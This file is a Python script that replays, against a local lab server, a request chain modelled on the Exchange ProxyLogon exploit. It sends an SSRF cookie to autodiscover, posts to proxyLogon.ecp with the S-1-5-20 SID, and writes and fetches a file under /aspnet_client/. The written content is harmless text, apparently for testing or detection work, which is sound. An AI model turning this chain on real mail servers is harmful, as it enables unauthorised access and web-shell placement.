# ruff: noqa
"""Data-driven replay: the chain is a list of steps, one generic sender."""

import json
import sys
import urllib.parse

import requests

AGENT = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
FILE = "/aspnet_client/system_web/readme_91453.txt"
BROWSER = (
    ("User-Agent", AGENT),
    ("x-requested-with", "XMLHttpRequest"),
    ("Accept", "*/*"),
    ("accept-language", "en-US,en;q=0.9"),
    ("connection", "close"),
)
QUERY = urllib.parse.urlencode(
    (
        ("Pad", "A" * 37),
        ("Protocol", "Autodiscoverv1"),
        ("Email", "administrator@lab.invalid/mapi/nspi"),
        ("RequestId", "20200302-7720"),
    )
)

STEPS = [
    {
        "verb": "GET",
        "path": "/autodiscover/autodiscover.json?" + QUERY,
        "headers": BROWSER
        + (
            (
                "cookie",
                "X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522",
            ),
        ),
        "body": None,
    },
    {
        "verb": "POST",
        "path": "/ecp/proxyLogon.ecp",
        "headers": (
            ("user-agent", AGENT),
            ("msexchlogonmailbox", "S-1-5-20"),
            ("content-type", "application/json"),
            ("X-BEResource", "localhost@lab.invalid/ecp/proxyLogon.ecp"),
        ),
        "body": json.dumps(
            {"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}
        ),
    },
    {
        "verb": "POST",
        "path": FILE,
        "headers": (("user-agent", AGENT), ("X-Note-Path", FILE), ("Content-Type", "text/plain")),
        "body": "\n".join("note %d of 3 for S-1-5-21-toy" % i for i in (1, 2, 3)),
    },
    {"verb": "GET", "path": FILE, "headers": BROWSER, "body": None},
]


def main(port):
    s = requests.Session()
    s.headers.clear()
    for step in STEPS:
        r = s.request(
            step["verb"],
            "http://127.0.0.1:%d%s" % (port, step["path"]),
            headers=dict(step["headers"]),
            data=step["body"],
            timeout=10,
        )
        print(step["verb"], step["path"][:40], r.status_code)


main(int(sys.argv[1]))
